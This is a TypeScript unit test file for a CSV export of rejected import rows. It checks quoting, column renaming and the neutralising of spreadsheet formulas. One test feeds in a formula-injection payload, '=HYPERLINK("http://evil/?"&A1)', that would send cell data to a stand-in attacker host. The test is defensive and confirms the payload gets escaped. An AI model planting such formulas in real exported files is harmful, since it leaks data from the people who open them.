import { expect, it } from 'vitest';
import { rejectedRowsCsv } from './rejected-rows-csv.ts';

it('writes line, reason and the columns of the file, quoted where needed', () => {
  const rows = [{ row: 2, line: 4, reason: '"ask" is not a phone number', cells: ['ask', 'Acme, Inc.', 'two\nlines'] }];
  expect(rejectedRowsCsv(['Phone', 'Company', 'Note'], rows)).toBe(
    '\uFEFFLine,Reason,Phone,Company,Note\r\n4,"""ask"" is not a phone number",ask,"Acme, Inc.","two\nlines"\r\n',
  );
});

it('holds no cell that a spreadsheet would run', () => {
  const rows = [
    { row: 2, line: 4, reason: 'Phone is empty', cells: ['', '=HYPERLINK("http://evil/?"&A1)', 'x;@SUM(1)'] },
  ];
  expect(rejectedRowsCsv(['Phone', '=1+1', 'Note'], rows)).toBe(
    `\uFEFFLine,Reason,Phone,"'=1+1",Note\r\n4,Phone is empty,,"'=HYPERLINK(""http://evil/?""&A1)","x;'@SUM(1)"\r\n`,
  );
});

it('gives its own columns other names where the file has them', () => {
  expect(rejectedRowsCsv(['Line', 'Phone', 'Reason', 'Reason (2)'], [])).toBe(
    '\uFEFFLine (2),Reason (3),Line,Phone,Reason,Reason (2)\r\n',
  );
});
